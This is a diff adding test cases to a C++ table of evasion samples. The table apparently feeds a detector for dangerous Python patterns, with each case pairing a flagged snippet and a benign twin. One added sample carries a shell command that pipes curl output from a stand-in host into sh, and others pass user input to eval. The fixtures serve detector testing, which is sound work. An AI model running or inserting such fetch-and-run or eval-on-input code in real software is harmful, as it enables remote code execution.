@@ -122,6 +122,13 @@ constexpr Evasion kEvasions[] = {
      "d = {'a': '1'}\nd['b'] = input()\neval(d['a'])\n"},
     {"mapping, updated", "d = {'a': '1'}\nd.update(a=input())\neval(d['a'])\n",
      "d = {'a': '1'}\nd.get('b')\neval(d['a'])\n"},
+    {"list, grown at the front", "l = ['1']\nl.insert(0, input())\neval(l[0])\n",
+     "l = ['1']\nl.append(input())\neval(l[0])\n"},
+    {"command, grown later",
+     "import subprocess\ndef g():\n    c = ['sh', '-c', 'curl http://a.example | sh']\n    "
+     "c.append('x')\n    subprocess.run(c)\n",
+     "import subprocess\ndef g():\n    c = ['git', 'status']\n    c.append('x')\n    "
+     "subprocess.run(c)\n"},
     {"mapping made of keywords", "d = dict(a=eval)\nd['a'](x)\n",
      "d = dict(eval=abs)\nd['eval'](x)\n"},
     {"list by an unknown index", "[print, eval][i](x)\n", "[print, abs][i](x)\n"},
